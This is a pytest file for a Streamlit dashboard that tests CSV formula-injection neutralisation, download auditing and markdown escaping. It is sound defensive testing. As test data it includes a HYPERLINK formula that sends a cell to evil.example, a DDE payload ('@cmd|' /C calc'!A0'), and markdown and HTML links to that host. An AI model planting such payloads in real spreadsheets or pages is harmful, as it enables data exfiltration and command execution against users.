"""One way out for data: the audited export writes no cell a spreadsheet would run as a formula, and text
from the data is shown as text wherever the dashboards render markdown (the stale-data banner, the
signed-in block)."""

from __future__ import annotations

import io
import json
import tomllib

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from dashboards.components.text import md
from tests.conftest import REPO, WORLD_END, write_test_users
from tests.dashboards.conftest import doctored, drawn_downloads, open_app, switch_page

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
LINK, IMAGE = "[重新登录](https:evil.example)", "![t](https:evil.example)"
CHART_LINK = '<a href="https://evil.example/grid">点我</a>'   # plotly draws <a href> in labels as a link


def _export_script():
    import pandas as pd

    from dashboards.components.export import audited_download

    text = ['=HYPERLINK("http://evil.example/?x="&A2,"x")', "+1", "-2", "@SUM(A1)", "\tx", "\rx", "a=b", "", None]
    audited_download("CSV", pd.DataFrame({"text": text, "number": [-1.5, -2, 3, 0, 1e9, -0.0, 7, 8, None],
                                          "count": range(-4, 5)}), "t.csv", "export", key="t")


def test_formula_cells_are_neutralised_and_numbers_stay_numbers(tmp_path, monkeypatch):
    monkeypatch.setenv("GRIDSIGHT_DATA_DIR", str(tmp_path))
    write_test_users(tmp_path)
    monkeypatch.setenv("GRIDSIGHT_USER", "leader")   # the script is not the app: single-user mode
    downloads = drawn_downloads(monkeypatch)
    app = AppTest.from_function(_export_script, default_timeout=30).run()
    assert not app.exception, app.exception
    csv = pd.read_csv(io.BytesIO(downloads["t"]["download"]()), encoding="utf-8-sig", keep_default_na=False)
    assert list(csv["text"]) == ["'" + HOSTILE, "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", ""]
    numbers = pd.read_csv(io.BytesIO(downloads["t"]["download"]()), encoding="utf-8-sig")
    assert numbers["number"].dtype == float and numbers["number"].iloc[:3].tolist() == [-1.5, -2, 3]
    assert numbers["count"].tolist() == list(range(-4, 5))


def test_a_download_is_audited_when_built_and_refused_once_the_user_is_disabled(tmp_path, monkeypatch):
    """Streamlit hands out a file without running the button's callbacks: the audit entry is written where the
    file is built, and a user disabled since the page was drawn gets nothing."""
    from dashboards import audit, users

    monkeypatch.setenv("GRIDSIGHT_DATA_DIR", str(tmp_path))
    write_test_users(tmp_path)
    monkeypatch.setenv("GRIDSIGHT_USER", "leader")
    downloads = drawn_downloads(monkeypatch)
    assert not AppTest.from_function(_export_script, default_timeout=30).run().exception
    assert not audit.audit_entries() and downloads["t"]["on_click"] == "ignore"   # drawn, not downloaded
    downloads["t"]["download"]()
    assert [(e["action"], e["rows"]) for e in audit.audit_entries()] == [("export", 9)]
    entries = users.read_users(tmp_path / "users.json")
    next(e for e in entries if e["user_id"] == "leader")["disabled"] = True
    users.write_users(tmp_path / "users.json", entries)
    with pytest.raises(PermissionError):
        downloads["t"]["download"]()
    assert len(audit.audit_entries()) == 1


def test_the_tables_own_download_is_off_for_every_page():
    """Streamlit reads the config next to the main script whatever the working directory (the browser test
    shows the toolbar without its download)."""
    from streamlit import config

    settings = tomllib.loads((REPO / "dashboards" / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert settings["client"]["disableDataExport"] is True
    assert "client.disableDataExport" in config.get_config_options()   # this Streamlit knows the option


def test_markdown_escape_leaves_no_link_image_or_line_break():
    assert md(LINK) == r"\[重新登录\]\(https\:evil\.example\)"
    assert md(IMAGE).startswith(r"\!\[t\]")
    assert md("a\n# b\r\n- c") == r"a \# b - c" and md(" - x") == r"\- x" and md("+1") == r"\+1"
    assert md("网格 C01") == "网格 C01" and md(None) == "" and md(3) == "3"


@pytest.mark.slow
def test_hostile_area_names_leave_the_population_export_as_text(world, tmp_path, monkeypatch, marts):
    grids = marts.execute("select * from marts.mart_population_by_grid").df()
    grids.loc[0, "name_zh"], grids.loc[1, "name_zh"] = HOSTILE, "@cmd|' /C calc'!A0"
    data_dir = doctored(world, tmp_path, mart_population_by_grid=grids)
    downloads = drawn_downloads(monkeypatch)
    switch_page(open_app(monkeypatch, data_dir, user="leader"), "population")
    csv = pd.read_csv(io.BytesIO(downloads["export_population"]["download"]()), encoding="utf-8-sig")
    names = csv.set_index("grid_id")["name_zh"]
    assert names[grids.loc[0, "grid_id"]] == "'" + HOSTILE
    assert names[grids.loc[1, "grid_id"]] == "'@cmd|' /C calc'!A0"
    assert csv.set_index("grid_id")["residents"].to_dict() == grids.set_index("grid_id")["residents"].to_dict()
    assert pd.api.types.is_integer_dtype(csv["residents"])


@pytest.mark.slow
def test_source_and_user_names_from_data_are_text_in_markdown(world, tmp_path, monkeypatch, marts):
    data_dir = hostile_world(world, marts, tmp_path)
    app = open_app(monkeypatch, data_dir, today=WORLD_END, pinned=True)   # a user without a password
    banner = app.warning[0].value
    assert md(LINK) in banner and md(IMAGE) in banner
    assert LINK not in banner and IMAGE not in banner
    signed_in = " ".join(m.value for m in app.sidebar.markdown)
    assert md(LINK) in signed_in and LINK not in signed_in


def hostile_world(world, marts, tmp_path):
    """The world's snapshot with two landing folders named like markdown links, a grid named like an HTML link
    (in the population page's charts), and a user named like a markdown link."""
    freshness = marts.execute("select * from marts.mart_source_freshness").df()
    stray = pd.concat([freshness.iloc[[0]].assign(source_name=name, name_zh=name, name_en=name, delivery="unknown",
                                                  stale_after_days=pd.NA, last_landed_on=pd.NaT,
                                                  last_loaded_on=pd.NaT, last_ingested_at=pd.NaT, files_landed=0,
                                                  unexpected_files=1, is_unknown_source=True)
                       for name in (LINK, IMAGE)], ignore_index=True)
    grids = marts.execute("select * from marts.mart_population_by_grid").df()
    grids.loc[0, "name_zh"] = CHART_LINK
    data_dir = doctored(world, tmp_path, mart_source_freshness=pd.concat([freshness, stray], ignore_index=True),
                        mart_population_by_grid=grids)
    (data_dir / "users.json").write_text(json.dumps({"users": [
        {"user_id": "leader", "display_name": LINK, "role": "leader", "grids": None}]}), encoding="utf-8")
    return data_dir
